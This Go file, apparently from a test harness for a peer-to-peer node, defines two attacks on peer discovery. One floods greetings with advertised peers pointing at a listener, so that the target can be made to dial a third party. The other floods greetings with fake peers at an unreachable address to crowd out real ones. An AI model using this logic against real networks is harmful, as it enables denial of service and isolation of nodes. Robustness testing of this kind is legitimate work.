package attacker

import (
	"context"
	"fmt"
	"net"
	"time"
)

// ThirdParty names n peers in each greeting, all of them at the port of a third party, also as one
// of WebSockets. Did counts the connections that were made to it.
func ThirdParty(t Target, n int, every time.Duration) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		l, err := net.Listen("tcp", net.JoinHostPort(p.cfg.From, "0"))
		if err != nil {
			tally.refused.Add(1)
			return
		}
		defer func() { _ = l.Close() }()
		p.wg.Go(func() { count(l, tally) })
		host, port, _ := net.SplitHostPort(l.Addr().String())
		at := fmt.Sprintf("/ip4/%s/tcp/%s", host, port)
		for ctx.Err() == nil {
			tally.tried.Add(1)
			greeting, err := Naming(n, at, at+"/ws")
			if err == nil {
				_, err = p.Greet(ctx, t, greeting)
			}
			if err != nil && ctx.Err() == nil {
				tally.refused.Add(1)
			}
			rest(ctx, every)
		}
	}
}

// count counts connections, and closes them.
func count(l net.Listener, tally *Tally) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		tally.did.Add(1)
		_ = c.Close()
	}
}

// Named names n peers in each greeting, at addresses where nobody is, so that those that are
// somewhere are not met.
func Named(t Target, n int, every time.Duration) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		again(ctx, 1, tally, func(ctx context.Context) error {
			defer rest(ctx, every)
			greeting, err := Naming(n, "/ip4/127.66.66.66/tcp/9")
			if err == nil {
				_, err = p.Greet(ctx, t, greeting)
			}
			return err
		})
	}
}
